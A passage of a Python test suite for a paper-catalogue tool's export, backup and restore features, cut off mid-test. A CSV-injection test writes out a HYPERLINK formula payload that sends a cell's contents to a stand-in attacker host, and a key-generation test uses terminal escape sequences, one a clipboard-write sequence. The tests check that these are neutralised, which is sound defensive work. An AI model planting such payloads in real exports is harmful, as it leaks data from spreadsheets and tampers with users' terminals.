"""Export (BibTeX, Markdown, CSV, JSON), the user-data backup and its restore, and ``paperdeck export``."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import re
import stat
from dataclasses import replace
from pathlib import Path

import orjson
import pytest
from bibtexparser.entrypoint import parse_string
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from paperdeck.export.bibtex import KeyMaker, base_key, bibtex_entries, bibtex_text
from paperdeck.export.formats import (
    CSV_COLUMNS,
    EXPORT_FORMATS,
    MARKDOWN_STATUS_ORDER,
    ExportError,
    export_papers,
    format_for_path,
    write_export,
)
from paperdeck.model.errors import SourceError, StoreError
from paperdeck.model.paper import STATUSES, Paper, Ratings, UserData, with_tags
from paperdeck.model.paper_json import paper_record
from paperdeck.model.safe_text import document
from paperdeck.sources import detect_format, read_source
from paperdeck.sources.bibtex import strip_braces
from paperdeck.sources.importer import import_files
from paperdeck.store.backup import (
    BackupError,
    RestoreReport,
    backup_json,
    is_backup,
    looks_like_backup,
    read_backup,
    restore_backup,
)
from paperdeck.store.store import Store
from paperdeck.store.user_data import UserStore
from paperdeck.text.render import render_plain

from tests.helpers import BIB_2018_NAME, COPILOT_2018_NAME, FIXTURES, SAFETY_NAME, SHARED_DATA, fixture, run

#: Cuts of the real files (``tests/data/``); the tests marked ``data`` read the whole ones.
BIB_2018 = fixture(BIB_2018_NAME)
COPILOT_2018 = fixture(COPILOT_2018_NAME)
SAFETY = fixture(SAFETY_NAME)


def safety_orals() -> int:
    """The orals of the safety subset's cut, counted from its venue strings."""
    records = [json.loads(line) for line in SAFETY.read_text("utf-8").splitlines() if line.strip()]
    return sum(record["venue"] == "ICLR 2026 Oral" for record in records)


#: Titles that break naive BibTeX, Markdown or CSV writers; the first is a real ICLR 2026 title.
NASTY_TITLES = (
    "Beyond Reactivity: Measuring Proactive Problem Solving in LLM Agents}",
    "Reducing up to 19% Unnecessary Desk-Rejections & 100% #1 Codebook",
    "{Unbalanced open brace",
    "C$^3$-Bench: $\\mathbb{R}^d$ embeddings with $\\{x_i\\}$ sets",
    "[CLS] tokens, <think> tags and *stars* | pipes",
    "Prügel-Bennett: Ünïcödé, 中文标题 and “quotes”",
    "Costs $5 and $10: snake_case x^2 at 50% off",
    "Trailing backslash \\",
    "Line\nbreaks\r\nand\ttabs @misc{evil, title={x}}",
    "A \\\\{ doubled escape, \\\\% too } with \\emph{emphasis} and \\% already escaped",
)


def nasty_papers() -> list[Paper]:
    return [
        Paper(
            id=f"abs:{n:016x}",
            title=title,
            abstract=f"Abstract {n} with $x$ and 100% more {{braces}}:\n\n{title}",
            venue="ICLR",
            year=2026,
            authors=("Jane van Doe", "Ann Smith and Co"),
            keywords=("a;b", "c,d"),
            openreview_url=f"https://openreview.net/forum?id=Nasty{n:05d}",
            decision="poster",
        )
        for n, title in enumerate(NASTY_TITLES)
    ]


def seen(text: str) -> str:
    """What a reader sees of paper text (the renderer has no ``\\textbrace…`` symbols yet)."""
    shown = render_plain(" ".join(text.split()))
    return shown.replace("\\textbraceleft{}", "{").replace("\\textbraceright{}", "}")


def unbraced(text: str) -> str:
    """Text as BibTeX readers see it: balanced braces group (protect capitals), they are not text."""
    return seen(text).replace("{", "").replace("}", "")


def tree_digest(directory: Path) -> dict[str, str]:
    return {
        str(path.relative_to(directory)): hashlib.sha256(path.read_bytes()).hexdigest()
        for path in sorted(directory.rglob("*"))
        if path.is_file() and path.name != ".lock"
    }


@pytest.fixture
def seeded(tmp_path: Path, seed_files: list[Path]) -> Store:
    store = Store(tmp_path / "data")
    import_files(store, seed_files)
    return store


def mark_some(store: Store) -> list[str]:
    """Star, annotate, tag and set statuses on a few papers; their ids."""
    ids = [paper.id for paper in store.papers[:6]]
    store.change(ids[:3], lambda r: r.replaced(starred=True))
    store.set_note(ids[0], "# not a heading\n- [ ] not a list\n```\nunclosed fence")
    store.set_note(ids[3], "read §3 — *tight* bound, 50% & $x$")
    store.set_status(ids[1], "to-read")
    store.set_status(ids[4], "dismissed")
    store.change([ids[2], ids[5]], lambda r: with_tags(r, add=["must-read", "moe"]))
    return ids


# -- BibTeX ------------------------------------------------------------------------------------


def test_nasty_titles_round_trip_through_bibtexparser() -> None:
    papers = nasty_papers()
    text = export_papers(papers, {}, "bibtex")
    library = parse_string(text)
    assert not library.failed_blocks
    assert len(library.entries) == len(papers)
    assert len({entry.key.casefold() for entry in library.entries}) == len(papers)
    for paper, entry in zip(papers, library.entries, strict=True):
        assert entry["title"] == bibtex_text(paper.title)
        assert seen(entry["title"]) == seen(paper.title), paper.title
        assert seen(entry["abstract"]) == seen(paper.abstract)
        assert entry["author"] == "Jane van Doe and {Ann Smith and Co}"
        assert entry["booktitle"] == "ICLR 2026" and entry["year"] == "2026"
        assert entry["url"] == paper.openreview_url


def test_exported_bibtex_reimports_with_the_same_ids_and_titles(tmp_path: Path) -> None:
    papers = nasty_papers()
    path = tmp_path / "export.bib"
    path.write_text(export_papers(papers, {}, "bibtex"), "utf-8")
    again = read_source(path)
    assert again.format == "bibtex" and not again.skipped
    assert [p.id for p in again.papers] == [f"openreview:Nasty{n:05d}" for n in range(len(papers))]
    for before, after in zip(papers, again.papers, strict=True):
        assert unbraced(after.title) == unbraced(before.title)
        assert after.authors == ("Jane van Doe", "Ann Smith and Co")


def test_special_characters_are_escaped_and_math_kept() -> None:
    assert bibtex_text("50% & #1") == "50\\% \\& \\#1"
    assert bibtex_text("already 50\\% off") == "already 50\\% off"
    assert bibtex_text("C$^3$-Bench and $\\mathbb{R}^d$") == "C$^3$-Bench and $\\mathbb{R}^d$"
    assert bibtex_text("costs $5 and $10") == "costs \\$5 and \\$10"
    assert bibtex_text("snake_case x^2") == "snake\\_case x\\textasciicircum{}2"
    assert bibtex_text("Agents}") == "Agents\\textbraceright{}"
    assert bibtex_text("$\\{x$") == "$\\lbrace{}x$"
    assert bibtex_text("two\n\nlines @misc{") == "two lines @misc\\textbraceleft{}"
    assert bibtex_text("end \\") == "end \\textbackslash{}"


def _balanced(text: str, counted: re.Pattern[str]) -> bool:
    depth = 0
    for match in counted.finditer(text):
        depth += 1 if match.group().endswith("{") else -1
        if depth < 0:
            return False
    return depth == 0


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.sampled_from('ab $%&#_^~{}\\@,="\n()[]é中'), max_size=60) | st.text(max_size=60))
def test_any_text_makes_a_field_both_bibtex_and_bibtexparser_read_back(text: str) -> None:
    value = bibtex_text(text)
    assert "\n" not in value and "\r" not in value
    assert _balanced(value, re.compile(r"[{}]")), "BibTeX counts every brace"
    assert _balanced(value, re.compile(r"(?<!\\)[{}]")), "bibtexparser skips braces after a backslash"
    assert not re.search(r"(?<!\\)[%&#]", value.replace("\\\\", "")), "an unescaped % & or #"
    paper = Paper(id="abs:1", title=text or "x", abstract=text, year=2026)
    library = parse_string(bibtex_entries([paper]))
    assert not library.failed_blocks and len(library.entries) == 1
    assert library.entries[0]["title"] == bibtex_text(text or "x")
    if text.strip():
        assert library.entries[0]["abstract"] == value


def test_keys_are_readable_and_unique() -> None:
    paper = Paper(id="abs:1", title="On the Diffusion of Ideas", abstract="", authors=("Yoshua Bengio Jr.",), year=2026)
    assert base_key(paper) == "bengio2026diffusion"
    anonymous = Paper(id="abs:2", title="C$^3$-Bench: a benchmark", abstract="", year=2026)
    assert base_key(anonymous) == "anonymous2026c3"
    assert base_key(Paper(id="abs:3", title="Über Ænderung", abstract="", authors=("Zoë Ångström",))) == (
        "angstromuber"
    )
    keys = KeyMaker()
    assert [keys.claim("smith2018x") for _ in range(4)] == ["smith2018x", "smith2018xa", "smith2018xb", "smith2018xc"]
    assert keys.claim("SMITH2018X") == "SMITH2018Xd"  # BibTeX compares keys without case
    many = KeyMaker()
    assert [many.claim("k") for _ in range(29)][-2:] == ["kaa", "kab"]


def test_keys_from_hostile_and_non_latin_names_begin_with_a_letter() -> None:
    def key(*authors: str, title: str = "Escape Sequences") -> str:
        return base_key(Paper(id="abs:1", title=title, abstract="", authors=authors, year=2026))

    assert key("Eve \x1b[5mBlink") == "blink2026escape"
    assert key("Mallory \x1b]52;c;aGk=\x07Osc") == "osc2026escape"
    assert key("Author 0") == "author2026escape"
    assert key("محمد علي", "Dana Cohen") == "cohen2026escape"
    assert key("محمد علي", "דנה כהן", title="On the Diffusion of Ideas") == "diffusion2026ideas"
    assert key("محمد علي", title="3D Scenes") == "scenes20263d"
    assert key("محمد علي", title="نظرية") == "paper2026"
    assert key(title="3D Scenes") == "anonymous20263d"


def test_keywords_with_commas_read_back_as_the_keywords_given() -> None:
    paper = Paper(id="abs:1", title="T", abstract="", authors=("A B",), year=2026, keywords=("a,b", "c;d"))
    entry = parse_string(bibtex_entries([paper])).entries[0]
    assert [k.strip() for k in entry["keywords"].split(",")] == ["a;b", "c;d"]


@pytest.mark.parametrize(
    ("folder", "entries"),
    [pytest.param(FIXTURES, 61, id="cut"), pytest.param(SHARED_DATA, 943, id="whole", marks=pytest.mark.data)],
)
def test_real_2018_bibtex_exports_its_own_entries_with_repeated_keys_disambiguated(folder: Path, entries: int) -> None:
    papers = read_source(folder / BIB_2018_NAME).papers
    text = export_papers(papers, {}, "bibtex")
    library = parse_string(text)
    assert not library.failed_blocks
    assert len(library.entries) == len(papers) == entries
    keys = [entry.key for entry in library.entries]
    assert len({key.casefold() for key in keys}) == entries
    assert {"zhang2018learning", "zhang2018learninga", "zhang2018learningb", "zhang2018learningc"} <= set(keys)
    for paper, entry in zip(papers, library.entries, strict=True):
        assert paper.bibtex.split("title=", 1)[1][:40] in text  # the source's entry, as written
        url = entry.fields_dict.get("url")
        assert url is None or url.value.endswith(paper.openreview_id)


@pytest.mark.parametrize(
    ("folder", "papers_in", "with_entry", "same_title"),
    [
        pytest.param(FIXTURES, 67, 65, 65, id="cut"),
        pytest.param(SHARED_DATA, 995, 943, 980, id="whole", marks=pytest.mark.data),
    ],
)
def test_real_2018_papercopilot_list_round_trips(
    tmp_path: Path, folder: Path, papers_in: int, with_entry: int, same_title: int
) -> None:
    papers = read_source(folder / COPILOT_2018_NAME).papers
    own = sum(1 for paper in papers if paper.bibtex)
    text = export_papers(papers, {}, "bibtex")
    assert len(parse_string(text).entries) == len(papers) == papers_in and own == with_entry
    path = tmp_path / "copilot.bib"
    path.write_text(text, "utf-8")
    again = read_source(path).papers
    assert len(again) == papers_in
    # Each title is the paper's, or (15 papers of the whole file) the older one in the source's own
    # entry, as the reader reads its LaTeX (`LatentPoison -- Adversarial` is LaTeX's en dash there).
    titles = {unbraced(p.title).casefold() for p in papers}
    own_titles = {
        unbraced(strip_braces(e["title"])).casefold()
        for p in papers
        if p.bibtex
        for e in parse_string(p.bibtex).entries
    }
    assert all(unbraced(p.title).casefold() in titles | own_titles for p in again)
    assert sum(unbraced(p.title).casefold() in titles for p in again) >= same_title
    generated = [p for p in papers if not p.bibtex]
    assert len(generated) == papers_in - with_entry and {p.id for p in generated} <= {q.id for q in again}


def test_colliding_source_keys_are_renamed_in_place() -> None:
    entry = "@inproceedings{\nsmith2018x,\ntitle={{A} 50% Title},\nyear={2018}\n}"
    papers = [
        Paper(id="abs:1", title="X first", abstract="", authors=("Ann Smith",), year=2018),
        Paper(id="abs:2", title="A 50% Title", abstract="", bibtex=entry),
        Paper(id="abs:3", title="A 50% Title", abstract="", bibtex=entry.replace("smith2018x", "SMITH2018X")),
    ]
    text = bibtex_entries(papers)
    assert "@inproceedings{\nsmith2018xa,\ntitle={{A} 50% Title}" in text  # the rest kept as written
    assert [e.key for e in parse_string(text).entries] == ["smith2018x", "smith2018xa", "SMITH2018Xb"]


def test_a_broken_source_entry_is_replaced_by_a_generated_one() -> None:
    broken = Paper(id="abs:1", title="Kept Title", abstract="x", bibtex="@misc{oops, title={unclosed", year=2020)
    text = bibtex_entries([broken])
    (entry,) = parse_string(text).entries
    assert entry["title"] == "Kept Title" and entry.key == "anonymous2020kept"


# -- Markdown, CSV, JSON -------------------------------------------------------------------------


def test_markdown_groups_by_status_and_notes_cannot_break_the_list(seeded: Store) -> None:
    ids = mark_some(seeded)
    papers = [p for pid in ids if (p := seeded.paper(pid)) is not None] + nasty_papers()
    users = seeded.all_user_data
    text = export_papers(papers, users, "markdown")
    tokens = MarkdownIt("commonmark").parse(text)
    headings = [tokens[i + 1].content for i, t in enumerate(tokens) if t.type == "heading_open" and t.tag == "h2"]
    assert headings == ["To read (1)", "Unseen (14)", "Dismissed (1)"]
    top_items = [t for t in tokens if t.type == "list_item_open" and t.level == 1]
    assert len(top_items) == len(papers)
    assert sum(1 for t in tokens if t.type == "heading_open" and t.level == 0) == 4  # notes' "#" stay quoted
    assert sum(1 for t in tokens if t.type == "blockquote_open") == 2
    assert text.count("★") == 3
    assert "  > # not a heading" in text and "  > ```" in text
    assert "\\[CLS\\] tokens, \\<think\\> tags and stars \\| pipes" in text  # *stars*: rendered italics
    assert "[C³-Bench: ℝᵈ embeddings" in text  # rendered, then linked
    assert "(<https://openreview.net/forum?id=Nasty00003>)" in text
    assert "tags: `moe`, `must-read`" in text
    assert list(MARKDOWN_STATUS_ORDER) != list(STATUSES) and sorted(MARKDOWN_STATUS_ORDER) == sorted(STATUSES)


def test_csv_has_every_field_and_reads_back(seeded: Store) -> None:
    mark_some(seeded)
    papers = seeded.papers + nasty_papers()
    rated = replace(papers[0], ratings=Ratings(6.5, 0.5, 6, 7, 4), provenance=(("title", "other.json"),))
    papers[0] = rated
    text = export_papers(papers, seeded.all_user_data, "csv")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert tuple(rows[0]) == CSV_COLUMNS
    assert len(rows) == len(papers)
    for paper, row in zip(papers, rows, strict=True):
        user = seeded.user_data(paper.id)
        assert row["id"] == paper.id and row["title"] == paper.title and row["abstract"] == paper.abstract
        assert row["starred"] == ("true" if user.starred else "false")
        assert row["note"] == user.note and row["status"] == user.status
        assert row["tags"] == ";".join(user.tags) and row["keywords"] == ";".join(paper.keywords)
    assert (rows[0]["rating_mean"], rows[0]["rating_count"], rows[0]["provenance"]) == ("6.5", "4", "title=other.json")
    assert rows[1]["rating_mean"] == "" and rows[-1]["authors"] == "Jane van Doe;Ann Smith and Co"


#: Starts of a cell that a spreadsheet runs as a formula (OWASP "CSV injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_csv_cells_that_would_be_formulas_get_a_leading_apostrophe(start: str) -> None:
    payload = f'{start}HYPERLINK("https://evil.example/?"&A1,"click")'
    paper = Paper(
        id=f"{start}id", title=payload, abstract=payload, venue=payload, authors=(payload, "Ann"),
        keywords=(payload,), primary_area=payload, decision_raw=payload, tldr=payload, doi=payload,
        pdf_url=payload, code_url=payload, bibtex=payload, sources=(payload,),
    )  # fmt: skip
    user = UserData(paper.id, note=payload, tags=(f"{start}tag",), status="read")
    text = export_papers([paper], {paper.id: user}, "csv")
    (row,) = list(csv.DictReader(io.StringIO(text, newline="")))
    formulas = [cell for cell in row.values() if cell.startswith(FORMULA_STARTS)]
    assert formulas == []
    shown = document(payload)  # the file is made visible too: a lone \r shows as ␍
    assert row["title"] == "'" + shown and row["note"] == "'" + shown and row["id"] == document(f"'{start}id")
    assert row["tags"] == document(f"'{start}tag") and row["authors"] == f"'{shown};Ann"


def test_csv_numbers_and_plain_text_are_left_as_they_are() -> None:
    paper = Paper(id="x", title="A title - with a dash", abstract="a", ratings=Ratings(-1.5, 0.5, -2.0, -1.0, 2))
    (row,) = list(csv.DictReader(io.StringIO(export_papers([paper], {}, "csv"), newline="")))
    assert (row["title"], row["rating_mean"], row["rating_min"]) == ("A title - with a dash", "-1.5", "-2.0")


def test_json_is_the_paper_records_of_the_cli(seeded: Store) -> None:
    mark_some(seeded)
    papers = seeded.papers
    data = orjson.loads(export_papers(papers, seeded.all_user_data, "json"))
    assert data == [paper_record(p, seeded.user_data(p.id)) for p in papers]
    assert sum(record["starred"] for record in data) == 3
    assert orjson.loads(export_papers([], {}, "json")) == []


def test_unknown_format_and_file_endings() -> None:
    with pytest.raises(ExportError, match="unknown export format 'rtf'"):
        export_papers([], {}, "rtf")
    assert [format_for_path(f"x{s}") for s in (".bib", ".MD", ".csv", ".json", ".txt")] == [
        "bibtex", "markdown", "csv", "json", None
    ]  # fmt: skip
    assert export_papers([], {}, "bibtex") == ""
    assert "No papers." in export_papers([], {}, "markdown")


def test_write_export_takes_the_umask_and_refuses_the_data_directory(seeded: Store, tmp_path: Path) -> None:
    target = tmp_path / "out.bib"
    old = os.umask(0o022)  # a new export is as readable as any file the user writes (0666 less the umask)
    try:
        write_export(target, "new ünïcode", data_dir=seeded.data_dir)
        os.umask(0o077)
        write_export(tmp_path / "private.bib", "x", data_dir=seeded.data_dir)
    finally:
        os.umask(old)
    assert target.read_text("utf-8") == "new ünïcode"
    assert stat.S_IMODE(target.stat().st_mode) == 0o644
    assert stat.S_IMODE((tmp_path / "private.bib").stat().st_mode) == 0o600
    assert stat.S_IMODE(next(seeded.data_dir.glob("*.json")).stat().st_mode) == 0o600  # the store's stay private
    inside_link = tmp_path / "store.bib"
    inside_link.symlink_to(seeded.data_dir / "catalogue.json")
    with pytest.raises(ExportError, match="inside the data directory"):
        write_export(inside_link, "x", data_dir=seeded.data_dir)
    before = tree_digest(seeded.data_dir)
    for inside in (seeded.data_dir / "catalogue.json", seeded.data_dir / "user" / "00.json", seeded.data_dir):
        with pytest.raises(ExportError, match="inside the data directory"):
            write_export(inside, "x", data_dir=seeded.data_dir)
    assert tree_digest(seeded.data_dir) == before


def test_write_export_keeps_a_files_mode_and_writes_through_a_link(tmp_path: Path) -> None:
    real = tmp_path / "real.bib"
    real.write_text("keep", "utf-8")
    real.chmod(0o644)
    write_export(real, "first")
    assert real.read_text("utf-8") == "first"
    assert stat.S_IMODE(real.stat().st_mode) == 0o644
    (tmp_path / "elsewhere").mkdir()
    link = tmp_path / "elsewhere" / "rel.bib"
    link.symlink_to(real)
    write_export(link, "second")
    assert link.is_symlink() and link.readlink() == real
    assert real.read_text("utf-8") == "second"
    assert stat.S_IMODE(real.stat().st_mode) == 0o644
    assert sorted(p.name for p in (tmp_path / "elsewhere").iterdir()) == ["rel.bib"]
    dangling = tmp_path / "elsewhere" / "new.bib"
    dangling.symlink_to(tmp_path / "made.bib")
    write_export(dangling, "third")
    assert dangling.is_symlink() and (tmp_path / "made.bib").read_text("utf-8") == "third"
    with pytest.raises(StoreError, match="cannot write"):
        write_export(tmp_path / "missing" / "out.bib", "x")


# -- backup and restore --------------------------------------------------------------------------


def test_backup_then_restore_into_a_fresh_store_gives_the_same_user_data(
    seeded: Store, tmp_path: Path, seed_files: list[Path]
) -> None:
    mark_some(seeded)
    seeded.change(["abs:00000000000000ff"], lambda r: r.replaced(note="a paper imported later"))
    path = tmp_path / "backup.json"
    path.write_bytes(backup_json(seeded))
    document = json.loads(path.read_text("utf-8"))
    assert list(document)[:3] == ["paperdeck", "schema", "exported"] and document["count"] == 7
    assert document["papers"][seeded.papers[0].id] == seeded.papers[0].title
    assert is_backup(path)
    fresh = Store(tmp_path / "fresh")
    import_files(fresh, seed_files)
    assert fresh.all_user_data == {}
    summary = import_files(fresh, [path])
    ((where, report),) = summary.restored
    assert where == str(path) and (report.restored, report.unchanged, report.not_in_store) == (7, 0, 1)
    assert report.summary() == (
        "7 records: 7 restored, 0 unchanged; 1 is for a paper not in the store yet (kept for when it is imported)"
    )
    assert summary.files == () and summary.new == 0
    assert Store(tmp_path / "fresh").all_user_data == seeded.all_user_data  # times kept too
    again = import_files(fresh, [path]).restored[0][1]
    assert (again.restored, again.unchanged) == (0, 7)


@pytest.mark.parametrize(
    ("report", "said"),
    [
        (
            RestoreReport(2, 4, 6),
            "6 records: 2 restored, 4 unchanged; all 6 are for papers not in the store yet (kept "
            "for when they are imported)",
        ),
        (
            RestoreReport(2, 4, 3),
            "6 records: 2 restored, 4 unchanged; 3 are for papers not in the store yet (kept "
            "for when they are imported)",
        ),
        (
            RestoreReport(1, 0, 1),
            "1 record: 1 restored, 0 unchanged; it is for a paper not in the store yet (kept for when it is imported)",
        ),
        (RestoreReport(3, 1, 0), "4 records: 3 restored, 1 unchanged"),
    ],
)
def test_a_restores_summary_counts_add_up(report: RestoreReport, said: str) -> None:
    """Every record is restored or unchanged; those for papers not in the store are among them."""
    assert report.summary() == said


def test_restore_moves_an_old_id_to_the_paper_it_became(seeded: Store, tmp_path: Path) -> None:
    seed = seeded.papers[0]
    seeded.set_star(seed.id, True)
    path = tmp_path / "backup.json"
    path.write_bytes(backup_json(seeded))
    note = tmp_path / "note.json"
    note.write_text(json.dumps([{"id": "AbCdEfGh12", "content": {"title": "Real", "abstract": seed.abstract}}]))
    import_files(seeded, [note])  # the seed paper takes the OpenReview id; the abs: id is an alias
    assert seeded.resolve(seed.id) == "openreview:AbCdEfGh12"
    seeded.set_star("openreview:AbCdEfGh12", False)
    report = restore_backup(seeded, read_backup(path))
    assert (report.restored, report.not_in_store) == (1, 0)
    assert seeded.user_data("openreview:AbCdEfGh12").starred
    assert seed.id not in seeded.all_user_data


MALFORMED = {
    "not json": (b'{"paperdeck": "user-data backup",\n "schema": 1,\n "records": [', "not valid JSON", 3),
    "not a backup": (b'{"paperdeck": "something else", "records": []}', "not a paperdeck user-data backup", None),
    "newer": (b'{"paperdeck": "user-data backup", "schema": 9, "records": []}', "newer paperdeck", None),
    "no records": (b'{"paperdeck": "user-data backup", "schema": 1}', '"records" is missing', None),
    "record not object": (b'{"paperdeck": "user-data backup", "schema": 1, "records": [1]}', "record 1: not an", None),
    "bad status": (
        b'{"paperdeck": "user-data backup", "schema": 1, "records": [\n{"paper_id": "a"},\n'
        b'{"paper_id": "b", "status": "bogus"}]}',
        "record 2 (b): unknown status 'bogus'",
        3,
    ),
    "star not bool": (
        b'{"paperdeck": "user-data backup", "schema": 1, "records": [{"paper_id": "a", "starred": "yes"}]}',
        "starred must be true or false",
        1,
    ),
    "note null": (
        b'{"paperdeck": "user-data backup", "schema": 1, "records": [{"paper_id": "a", "note": null}]}',
        "note must be text, not null",
        1,
    ),
    "bad time": (
        b'{"paperdeck": "user-data backup", "schema": 1, "records": [{"paper_id": "a", "updated": "not a date"}]}',
        "updated must be an ISO 8601 time",
        1,
    ),
    "tag not text": (
        b'{"paperdeck": "user-data backup", "schema": 1, "records": [{"paper_id": "a", "tags": [1]}]}',
        "every tag must be text",
        1,
    ),
    "twice": (
        b'{"paperdeck": "user-data backup", "schema": 1, "records": [\n{"paper_id": "a"},\n{"paper_id": "a"}]}',
        "record 2: paper 'a' again (first in record 1)",
        3,
    ),
    "unknown field": (
        b'{"paperdeck": "user-data backup", "schema": 1, "records": [{"paper_id": "a", "stared": true}]}',
        "unknown field 'stared'",
        1,
    ),
}


@pytest.mark.parametrize("case", sorted(MALFORMED))
def test_a_malformed_backup_is_one_line_naming_the_file_and_changes_nothing(
    case: str, seeded: Store, tmp_path: Path
) -> None:
    payload, reason, line = MALFORMED[case]
    mark_some(seeded)
    path = tmp_path / "backup.json"
    path.write_bytes(payload)
    good = tmp_path / "good.json"
    empty = backup_json(Store(tmp_path / "empty"))
    good.write_bytes(empty.replace(b'"records": []', b'"records": [{"paper_id": "z"}]'))
    before = tree_digest(seeded.data_dir)
    with pytest.raises(SourceError) as caught:
        import_files(seeded, [good, path, SAFETY])
    message = str(caught.value)
    assert message.splitlines() == [message] and reason in message
    assert message.startswith(f"{path}:{line}: " if line else f"{path}: ")
    assert isinstance(caught.value, BackupError)
    assert tree_digest(seeded.data_dir) == before
    assert len(seeded.papers) == 37


def test_a_failed_write_leaves_every_record_as_it_was(
    seeded: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    ids = mark_some(seeded)
    path = tmp_path / "backup.json"
    path.write_bytes(backup_json(seeded))
    seeded.change(ids, lambda r: UserData(r.paper_id))  # wipe: the restore has six shards to write
    wiped = seeded.all_user_data
    calls = {"n": 0}
    original = UserStore._write_shard

    def fail_on_the_third(self: UserStore, *args: object, **kwargs: object) -> None:
        calls["n"] += 1
        if calls["n"] == 3:
            raise StoreError(self.directory, "cannot write: the disk is full; nothing was changed")
        original(self, *args, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr(UserStore, "_write_shard", fail_on_the_third)
    with pytest.raises(StoreError, match="disk is full"):
        restore_backup(seeded, read_backup(path))
    monkeypatch.undo()
    assert calls["n"] == 3  # one transaction: the two shards staged were never renamed into place
    assert Store(seeded.data_dir).all_user_data == wiped


def test_backups_are_told_apart_from_paper_lists(seeded: Store, tmp_path: Path, seed_files: list[Path]) -> None:
    path = tmp_path / "backup.json"
    path.write_bytes(backup_json(seeded))
    assert is_backup(path) and looks_like_backup('\ufeff {\n  "paperdeck" : "user-data backup"')
    read = read_source(path)  # the backup's row of the input formats: no papers, the backup
    assert read.format == "backup" and not read.papers and read.backup is not None
    real = [*seed_files, *sorted(p for p in FIXTURES.iterdir() if p.suffix not in {".md", ".py"})]
    assert len(real) >= 17 and not any(is_backup(p) for p in real)
    assert detect_format(SAFETY) == "openreview" and detect_format(COPILOT_2018) == "papercopilot"
    assert not is_backup(tmp_path / "missing.json")


# -- the command line ----------------------------------------------------------------------------


@pytest.fixture
def cli_store(tmp_path: Path, seed_files: list[Path], capsys: pytest.CaptureFixture[str]) -> str:
    data = str(tmp_path / "data")
    assert run(capsys, "import", *map(str, seed_files), str(SAFETY), "--data-dir", data)[0] == 0
    return data


def test_cli_export_takes_a_query_and_writes_each_format(
    cli_store: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, _ = run(capsys, "list", "--json", "--limit", "2", "--data-dir", cli_store)
    first, second = (paper["id"] for paper in json.loads(out))
    run(capsys, "star", first, second, "--data-dir", cli_store)
    code, out, err = run(capsys, "export", "decision:oral", "--format", "bibtex", "--data-dir", cli_store)
    assert code == 0 and err == ""
    orals = parse_string(out).entries
    assert len(orals) == safety_orals() and all(entry.entry_type == "inproceedings" for entry in orals)
    for fmt, suffix in zip(EXPORT_FORMATS, (".bib", ".md", ".csv", ".json", ".ris", ".csl.json"), strict=True):
        target = tmp_path / f"starred{suffix}"
        code, out, err = run(capsys, "export", "--starred", "-o", str(target), "--json", "--data-dir", cli_store)
        assert code == 0, err
        assert json.loads(out) == {"path": str(target), "format": fmt, "papers": 2}
    assert len(json.loads((tmp_path / "starred.json").read_text("utf-8"))) == 2
    code, out, _ = run(capsys, "export", "is:starred", "--format", "csv", "--data-dir", cli_store)
    assert len(list(csv.DictReader(io.StringIO(out, newline="")))) == 2
    code, out, _ = run(capsys, "export", "--format", "json", "--data-dir", cli_store)
    everything = len(Store(Path(cli_store)).paper_ids)  # the seeds and the safety subset's cut, merged
    assert len(json.loads(out)) == everything
    code, out, _ = run(capsys, "export", "safety alignment", "--format", "json", "--data-dir", cli_store)
    ranked = json.loads(out)
    assert 0 < len(ranked) < everything and "safe" in ranked[0]["title"].casefold() + ranked[0]["abstract"].casefold()


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (("rating>=", "--format", "csv"), "paperdeck: query 'rating>='"),
        (("--format", "csv", "--json"), "--json describes the file written with -o"),
        ((), "give --format bibtex | markdown | csv | json"),
        (("-o", "x.txt"), "x.txt has no .bib, .ris, .csl.json, .md, .csv, .json or .ics ending"),
        (("--user-data", "is:starred"), "--user-data backs up every record; it takes no QUERY"),
        (("--user-data", "--format", "csv"), "it takes no --format"),
        (("-o", ""), "export: -o needs a file name (- prints to standard output)"),
        (("--user-data", "-o", ""), "-o needs a file name"),
    ],
)
def test_cli_export_mistakes_are_one_line_errors(
    args: tuple[str, ...], message: str, cli_store: str, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, err = run(capsys, "export", *args, "--data-dir", cli_store)
    assert code == 2 and out == "" and err.count("\n") == 1 and message in err and err.startswith("paperdeck: ")


def test_cli_export_of_no_papers_says_so_and_writes_nothing(
    cli_store: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """No paper selected: one line, status 1, no output and an earlier export kept as it was."""
    target = tmp_path / "orals.bib"
    target.write_text("an earlier export\n")
    cases = (("-o", str(target)), ("-o", str(target), "--json"), ("--format", "json"), ("--starred", "--format", "csv"))
    for args in cases:  # nothing is starred in this store
        query = "" if "--starred" in args else "title:zzzqqqnothing"
        code, out, err = run(capsys, "export", *([query] if query else []), *args, "--data-dir", cli_store)
        assert (code, out) == (1, ""), (args, err)
        assert err.startswith("paperdeck: export: no papers matched; nothing written") and err.count("\n") == 1
    code, _, err = run(capsys, "export", "title:zzzqqqnothing", "-o", str(target), "--data-dir", cli_store)
    assert f"({target} left as it was)" in err
    assert target.read_text() == "an earlier export\n" and [p.name for p in tmp_path.glob("*orals*")] == ["orals.bib"]


def test_cli_refuses_to_write_into_the_data_directory(cli_store: str, capsys: pytest.CaptureFixture[str]) -> None:
    before = tree_digest(Path(cli_store))
    target = str(Path(cli_store) / "catalogue.json")
    code, _, err = run(capsys, "export", "--format", "json", "-o", target, "--data-dir", cli_store)
    assert code == 2 and "inside the data directory" in err
    code, _, err = run(capsys, "export", "--user-data", "-o", str(Path(cli_store) / "user" / "00.json"),
                       "--data-dir", cli_store)  # fmt: skip
    assert code == 2 and "inside the data directory" in err
    assert tree_digest(Path(cli_store)) == before


def test_cli_backup_and_restore(
    cli_store: str, tmp_path: Path, seed_files: list[Path], capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, _ = run(capsys, "list", "--json", "--data-dir", cli_store)
    listed = json.loads(out)
    ids = [listed[0]["id"], listed[1]["id"], listed[-1]["id"]]  # two seed papers, one from the safety list
    run(capsys, "star", *ids, "--data-dir", cli_store)
    run(capsys, "note", ids[0], "--text", "keep me", "--data-dir", cli_store)
